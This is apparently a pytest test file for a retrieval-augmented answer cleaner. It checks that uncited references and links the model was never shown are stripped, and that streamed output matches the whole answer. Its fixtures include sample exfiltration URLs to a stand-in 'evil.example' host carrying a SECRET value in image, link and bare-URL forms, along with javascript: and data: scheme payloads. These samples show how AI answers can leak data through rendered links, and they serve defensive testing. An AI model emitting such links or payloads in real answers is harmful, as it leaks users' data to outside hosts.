"""The text of a model's answer: the same whole and streamed, without links and citations that it was never shown."""

from __future__ import annotations

from random import Random

import pytest

from ragkit.answer.answer_text import AnswerText, RestartableOutput, clean_answer
from ragkit.answer.outcome import NOT_FOUND_MARK, NOT_IN_DOCUMENTS

KNOWN = ["See https://good.example/a?b=1 for more.", "When?"]
EVIL = "http://evil.example/?q=SECRET"
ANSWERS = {
    "a plain answer": "It is cut in August [1]. Not in May [2].",
    "an unknown citation": "It is cut in August [42], and [0] in May [1, 9].",
    "citations in other brackets": "It is cut in August【1】, and in May【2†source】【7】.",
    "an image": f"Look: ![x]({EVIL}) here.",
    "a link": f"Look [here]({EVIL}). And [there](//evil.example/x) too.",
    "a bare link": f"Look at {EVIL}.\nAnd at HTTPS://EVIL.EXAMPLE/SECRET, please.",
    "a link in Chinese": f"请看{EVIL}。再见",
    "a link in emphasis": f"_{EVIL}_ and *{EVIL}*",
    "an address with spaces": '<a href="http://evil.example/ a b SECRET">x</a> <http://evil.example/ SECRET>',
    "two quoted addresses": f'"{EVIL} SECRET"//evil.example/ SECRET" and "{EVIL}"/"//evil.example/SECRET "',
    "a definition": "See [this].\n\n[this]: //evil.example/SECRET 'x'",
    "other schemes": "Click javascript:alert(SECRET) or data:text/html,SECRET or x-data:SECRET",
    "a known link": "See https://good.example/a?b=1, or [it](https://good.example/a?b=1) [2].",
    "code": "Write `items[7]` or:\n```python\nitems[7] = 3 # [42]\n```\nand then [7] [1].",
    "JSON": '{"answer": "In August [7]", "numbers": [7]}',
    "an abstention": f"{NOT_FOUND_MARK} Das steht nicht in den Dokumenten.",
    "an abstention in bold": f"**{NOT_FOUND_MARK}**. Nothing is said.",
    "nothing but the mark": NOT_FOUND_MARK,
    "a late mark": f"It is cut in August [1]. {NOT_FOUND_MARK} The colour.",
    "a bracket": "[not so fast] and [note] and [",
    "quotes": "Don't say 'http' or \"data\", it's = not ( a <b> link!",
    "numbers in front": "[1] In August.\n[2] Not in May [2].\n\n [1]  **Then**: \n[9] Never.\n[1] [2] Both\n[1]",
    "a number in front of code": "[1] Write `items[2]`\n```\n[1] x\n```\n[2] y",
    "a number in front of a long line": "[1] "
    + "word " * 300
    + "[2] "
    + "word " * 300
    + "end\n[1] "
    + "word " * 300
    + "end",
    "a word of 9,000 letters": "[1] " + "x" * 9000 + "\n[2] y",
    "a long line": "word " * 400 + f"and {EVIL} and `a[7]` [7] [1] " + "word " * 300 + "`b[9]` [9]",
}
CLEANED = {
    "a plain answer": "It is cut in August [1]. Not in May [2].",
    "an unknown citation": "It is cut in August, and in May [1].",
    "citations in other brackets": "It is cut in August[1], and in May[2].",
    "an image": "Look: [x]([link removed: evil.example]) here.",
    "a link": "Look [here]([link removed: evil.example]). And [there]([link removed: evil.example]) too.",
    "a known link": ANSWERS["a known link"],
    "code": "Write `items[7]` or:\n```python\nitems[7] = 3 # [42]\n```\nand then [1].",
    "JSON": ANSWERS["JSON"],
    "an abstention": "Das steht nicht in den Dokumenten.",
    "an abstention in bold": "Nothing is said.",
    "nothing but the mark": NOT_IN_DOCUMENTS,
    "a late mark": "It is cut in August [1]. The colour.",
    "a bracket": ANSWERS["a bracket"],
    "quotes": ANSWERS["quotes"],
    "numbers in front": "In August. [1]\nNot in May [2].\n\n**Then**: [1]\n Never.\n[1] [2] Both\n[1]",
    "a number in front of code": "Write `items[2]` [1]\n```\n[1] x\n```\ny [2]",
    "a number in front of a long line": "word " * 300 + "[2] " + "word " * 300 + "end\n" + "word " * 300 + "end [1]",
    "a word of 9,000 letters": "x" * 9000 + " [1]\ny [2]",
}


@pytest.mark.parametrize("name", CLEANED)
def test_an_answer_keeps_only_what_was_shown_to_the_model(name: str) -> None:
    assert clean_answer(ANSWERS[name], KNOWN, {1, 2})[0] == CLEANED[name]


@pytest.mark.parametrize("name", ANSWERS)
def test_no_link_leaves_an_answer_that_no_passage_has(name: str) -> None:
    assert "SECRET" not in clean_answer(ANSWERS[name], KNOWN, {1, 2})[0]
    assert "SECRET" not in clean_answer(ANSWERS[name], KNOWN, None)[0]


@pytest.mark.parametrize("name", ANSWERS)
def test_a_streamed_answer_is_the_whole_one_wherever_it_is_split(name: str) -> None:
    text, chance = ANSWERS[name], Random(7)
    cleaned, unknown = clean_answer(text, KNOWN, {1, 2})
    for size in (1, 2, 3, 7, *(chance.randint(1, 40) for _ in range(30))):
        stream = AnswerText(KNOWN, {1, 2})
        at, shown = 0, ""
        while at < len(text):
            step = chance.randint(1, size)
            shown += stream.feed(text[at : at + step])
            assert cleaned.startswith(shown), f"{shown[-80:]!r} was shown too early"
            at += step
        assert shown + stream.flush() == cleaned
        assert list(dict.fromkeys(stream.unknown)) == unknown


def test_the_numbers_that_were_never_shown_are_named_once() -> None:
    assert clean_answer(ANSWERS["an unknown citation"] + " [42]", [], {1})[1] == [42, 0, 9]
    assert clean_answer(ANSWERS["code"], [], {1})[1] == [7]


def test_words_are_streamed_as_soon_as_they_are_complete() -> None:
    stream = AnswerText([], {1})
    assert [stream.feed(chunk) for chunk in ("It ", "is cut", " in", " August [1", "]", ". ")] == [
        "It", " is ", "cut ", "in August", " [1]", "."
    ]  # fmt: skip


def test_a_long_answer_is_cleaned_in_linear_time() -> None:
    stream = AnswerText([], {1})
    text = "word [1] `x` http://evil.example/ " * 1_000
    assert len("".join(stream.feed(text[at : at + 5]) for at in range(0, len(text), 5))) > len(text)


@pytest.mark.parametrize(
    "word", ["x" * 2_000_000, "x/:" * 600_000, "http://evil.example/" + "x" * 2_000_000, "文" * 2_000_000]
)
def test_a_word_without_end_is_streamed_in_linear_time(word: str) -> None:
    stream = AnswerText([], {1})
    shown = [stream.feed(word[at : at + 10_000]) for at in range(0, len(word), 10_000)]
    assert sum(map(len, shown)) > len(word) - 20_000
    assert "http" not in "".join(shown) + stream.flush()


@pytest.mark.parametrize("filler", [2_030, 4_050, 4_080, 6_100, 8_150])
def test_no_link_leaves_a_word_without_end(filler: int) -> None:
    for link in ("](//evil.example/SECRET)", "](http://evil.example/SECRET)", "(data:text/html,SECRET)"):
        for shift in range(30):
            text = "x" * (filler + shift) + link
            stream = AnswerText([], {1})
            shown = "".join(stream.feed(text[at : at + 97]) for at in range(0, len(text), 97)) + stream.flush()
            assert "SECRET" not in shown


def restarted(*attempts: str) -> list[str]:
    seen: list[str] = []
    output = RestartableOutput(seen.append, lambda: seen.append("|"))
    for number, attempt in enumerate(attempts):
        if number:
            output.restart()
        for word in attempt.split(" "):
            output.write(word)
    output.end_part()
    return seen


def test_a_stream_that_begins_again_with_the_same_words_goes_on_where_it_broke_off() -> None:
    assert restarted("It is", "It is cut") == ["It", "is", "cut"]
    assert restarted("It is", "Iti s cut") == ["It", "is", "cut"]
    assert restarted("It is", "It", "It is cut") == ["It", "is", "cut"]


def test_a_stream_that_begins_again_with_other_words_is_announced() -> None:
    assert restarted("It is", "It was cut") == ["It", "is", "|", "Itwas", "cut"]
    assert restarted("It is cut", "It is") == ["It", "is", "cut", "|", "Itis"]
